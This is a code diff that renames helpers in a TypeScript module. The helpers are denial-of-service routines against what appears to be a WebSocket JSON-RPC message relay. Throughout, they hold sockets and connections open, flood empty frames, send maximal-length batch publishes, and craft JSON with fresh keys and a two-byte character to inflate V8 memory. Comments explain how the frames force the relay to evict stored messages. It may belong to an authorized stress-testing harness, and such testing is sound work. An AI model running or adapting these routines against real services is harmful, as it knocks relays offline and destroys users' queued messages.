@@ -113,11 +113,11 @@ export async function holdSockets(target: Target, count: number, open: () => Pro
 /** Resolves with the next message of the socket, or when the socket closes. */
 export function nextMessage(socket: WebSocket): Promise<string> {
   return new Promise((resolve) => {
-    const done = (data: unknown) => {
-      socket.off('message', done).off('close', done)
+    const resolveWithMessage = (data: unknown) => {
+      socket.off('message', resolveWithMessage).off('close', resolveWithMessage)
       resolve(String(data))
     }
-    socket.on('message', done).on('close', done)
+    socket.on('message', resolveWithMessage).on('close', resolveWithMessage)
   })
 }
 
@@ -164,22 +164,24 @@ export async function sendAllAtOnce(
  * @param paramsOf - Returns the params of the next frame, as JSON.
  */
 export function sendLongFramesAtOnce(target: Target, paramsOf: () => string): Promise<void> {
-  const frame = () => `{"id":1,"jsonrpc":"2.0","method":"x","params":${paramsOf()}}`.padEnd(60_000)
-  return sendAllAtOnce(target, () => [frame()], { count: 240, restMs: 15_000 })
+  const createFrame = () => `{"id":1,"jsonrpc":"2.0","method":"x","params":${paramsOf()}}`.padEnd(60_000)
+  return sendAllAtOnce(target, () => [createFrame()], { count: 240, restMs: 15_000 })
 }
 
 let lastKey = 0
 /** Returns an object key that no frame has used before. V8 needs memory for each new key. */
-function newKey(): string {
+function createNewKey(): string {
   lastKey += 1
   return lastKey.toString(36).padStart(5, 'x')
 }
 
 /** Returns a list of objects with one new key each, as JSON. */
-export const objectsWithNewKey = (count: number) => `[${Array.from({ length: count }, () => `{"${newKey()}":0}`)}]`
+export const createObjectsWithNewKey = (count: number) =>
+  `[${Array.from({ length: count }, () => `{"${createNewKey()}":0}`)}]`
 
 /** Returns an object with `count` new keys, as JSON. */
-export const objectWithNewKeys = (count: number) => `{${Array.from({ length: count }, () => `"${newKey()}":0`)}}`
+export const createObjectWithNewKeys = (count: number) =>
+  `{${Array.from({ length: count }, () => `"${createNewKey()}":0`)}}`
 
 export const randomTopic = () => randomBytes(32).toString('hex')
 
@@ -235,12 +237,12 @@ export async function fillStorage(target: Target) {
  * Clients with new keys send frames of the maximum length at the same moment. Each frame makes the relay evict hundreds of short messages.
  */
 export async function forceEvictions(target: Target) {
-  const longMessage = () => seal(randomBytes(31_000).toString('hex'))
+  const createLongMessage = () => seal(randomBytes(31_000).toString('hex'))
   while (!target.isOver()) {
     const sockets = await openSockets(target, 24)
-    const messages = () =>
-      Array.from({ length: 3 }, () => ({ topic: randomTopic(), message: longMessage(), ttl: 604_800, tag: 1108 }))
-    const frames = sockets.map(() => request('irn_batchPublish', { messages: messages() }))
+    const createMessages = () =>
+      Array.from({ length: 3 }, () => ({ topic: randomTopic(), message: createLongMessage(), ttl: 604_800, tag: 1108 }))
+    const frames = sockets.map(() => request('irn_batchPublish', { messages: createMessages() }))
     for (const [index, socket] of sockets.entries())
       if (socket.readyState === WebSocket.OPEN) socket.send(frames[index] ?? '')
     target.seen.sent += frames.length
@@ -260,10 +262,10 @@ export async function subscribeToMany(target: Target) {
   }
 }
 
-const shortMessage = () => publish(randomBytes(8).toString('hex'), { topic: randomTopic() })
+const createShortMessageRequest = () => publish(randomBytes(8).toString('hex'), { topic: randomTopic() })
 
-/** Eight clients send frames repeatedly, together as many as the relay allows one IP address. */
-export async function sendSteadily(target: Target, frame = shortMessage) {
+/** Eight clients send frames repeatedly. Together they send as many frames as the relay allows for one IP address. */
+export async function sendSteadily(target: Target, frame = createShortMessageRequest) {
   while (!target.isOver()) {
     const sockets = await openSockets(target, 8)
     while (!target.isOver() && sockets.some(({ readyState }) => readyState === WebSocket.OPEN)) {
@@ -279,10 +281,10 @@ export async function sendSteadily(target: Target, frame = shortMessage) {
 }
 
 /** Returns a batch with as many items as the relay accepts. The items have no fields, so they are invalid. */
-export const emptyItems = () => request('irn_batchPublish', { messages: Array(500).fill({}) })
+export const createEmptyItemsRequest = () => request('irn_batchPublish', { messages: Array(500).fill({}) })
 
 /** A query of the maximum length that the server accepts: a list of ids that no wallet has. */
-export const longInclude = `include=${Array.from({ length: 490 }, (_, n) => `w${n.toString(36).padStart(20, 'x')}`).join(',')}`
+export const longIncludeQuery = `include=${Array.from({ length: 490 }, (_, n) => `w${n.toString(36).padStart(20, 'x')}`).join(',')}`
 
 /** Sends empty frames as fast as the relay reads them, and ignores everything that the relay sends. */
 export async function floodEmptyFrames(target: Target, opcode: number) {
@@ -311,7 +313,7 @@ export async function floodEmptyFrames(target: Target, opcode: number) {
  */
 export async function holdHttpConnections(target: Target, count: number, sendRequests: (socket: Socket) => void) {
   const { hostname, port } = new URL(target.relayUrl)
-  const open = async () => {
+  const openConnection = async () => {
     const socket = connect({ host: hostname, port: Number(port), localAddress: target.from })
     socket.on('error', () => {})
     socket.on('close', () => {
@@ -325,7 +327,7 @@ export async function holdHttpConnections(target: Target, count: number, sendReq
   await Promise.all(
     Array.from({ length: count }, async () => {
       while (!target.isOver()) {
-        const socket = await open()
+        const socket = await openConnection()
         while (!socket.destroyed && !target.isOver()) await setTimeout(10)
         socket.destroy()
       }
@@ -350,14 +352,14 @@ export const pipelineRequests = (target: Target, path: string, headers = 'Host: 
  * the relay ignores: objects with new keys, and a text with one character that makes V8 use two bytes for every character.
  */
 export async function publishWideFrames(target: Target) {
-  const frame = () => {
+  const createFrame = () => {
     const messages = drafts(128, randomTopic, 604_800)
-    const frameStart = `{"id":1,"jsonrpc":"2.0","method":"irn_batchPublish","params":{"messages":${JSON.stringify(messages)},"y":${objectsWithNewKey(1_900)},"x":"€`
+    const frameStart = `{"id":1,"jsonrpc":"2.0","method":"irn_batchPublish","params":{"messages":${JSON.stringify(messages)},"y":${createObjectsWithNewKey(1_900)},"x":"€`
     return `${frameStart}${'x'.repeat(256 * kib - Buffer.byteLength(frameStart) - 3)}"}}`
   }
   while (!target.isOver()) {
     const sockets = await openSockets(target, 5)
-    const frames = sockets.slice(0, 5).map(() => Array.from({ length: 13 }, frame))
+    const frames = sockets.slice(0, 5).map(() => Array.from({ length: 13 }, createFrame))
     for (const [index, socket] of sockets.entries())
       for (const each of frames[index] ?? []) {
         if (socket.readyState !== WebSocket.OPEN) break
@@ -370,5 +372,5 @@ export async function publishWideFrames(target: Target) {
 }
 
 export const rawSocketOf = (socket: WebSocket) => (socket as unknown as { _socket: Socket })._socket
-export const frameWithBadIds = (length: number) =>
+export const createFrameWithBadIds = (length: number) =>
   `{"id":1.5,"jsonrpc":"2.0","params":[${'{"id":1},'.repeat(length / 9)}{}]}`
